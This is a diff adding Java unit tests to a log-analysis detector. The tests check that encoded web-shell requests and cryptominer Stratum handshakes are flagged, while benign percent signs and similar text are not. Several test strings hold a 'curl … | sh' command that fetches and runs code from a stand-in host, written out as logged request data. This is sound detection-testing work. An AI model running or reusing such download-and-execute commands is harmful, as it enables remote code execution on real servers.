@@ -13,6 +13,7 @@ import org.ephemera.analyze.model.LogLine;
 import org.ephemera.analyze.model.Severity;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 class LogRulesTest {
@@ -58,6 +59,49 @@ class LogRulesTest {
                 .containsExactly("CMD-001 medium", "LOG-002 medium");
         assertThat(rules.findings().findings().getFirst().because()).contains("an attempt");
         assertThat(rules.findings().indicators()).extracting(Indicator::value).contains("203.0.113.7");
+    }
+
+    /** A web shell receives its command in the query, which servers log as it was sent; also encoded twice. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "\"GET /a/.thumb.php?c=curl%20-s%20http://203.0.113.7/m%7Csh HTTP/1.1\" 200 31",
+                "\"GET /a/.thumb.php?c=curl+-s+http%3a%2f%2f203.0.113.7%2fm+%7c+sh HTTP/1.1\" 200 31",
+                "\"GET /a/.thumb.php?c=curl%2520-s%2520http://203.0.113.7/m%257Csh HTTP/1.1\" 200 31",
+            })
+    void decodesCommandInRequest(String entry) {
+        line("web", 1, entry);
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .contains("CMD-001 medium");
+        assertThat(rules.findings().indicators()).extracting(Indicator::value).contains("203.0.113.7");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {"\"GET /search?q=sh%20curl%20pipe HTTP/1.1\" 200 31", "progress 45%", "100%ab 5%2", "%%%zz"})
+    void ignoresOtherPercentSigns(String entry) {
+        line("web", 1, entry);
+        assertThat(rules.findings().findings()).isEmpty();
+    }
+
+    /** Messages of the Stratum protocol, as an agent or a network sensor logs them. */
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"worker/2.5\"]} | NET-001 high",
+                "payload={\\\"method\\\":\\\"eth_submitLogin\\\",\\\"params\\\":[\\\"0x0\\\"]} | NET-001 high",
+                "{\"method\":\"login\",\"params\":{\"login\":\"w\",\"pass\":\"x\",\"agent\":\"m/6\"}} | NET-001 high",
+                "mining.subscribe is a method of Stratum | ''",
+                "{\"method\":\"login\",\"user\":\"jane\"} | ''",
+                "connected to 203.0.113.7:3333 | ''",
+            })
+    void reportsHandshakeOfMiner(String message, String expected) {
+        line("app", 1, message);
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .isEqualTo(expected.isEmpty() ? List.of() : List.of(expected));
     }
 
     /** Bots send miner logins to every web server; the log entry quotes the request and nothing mines. */
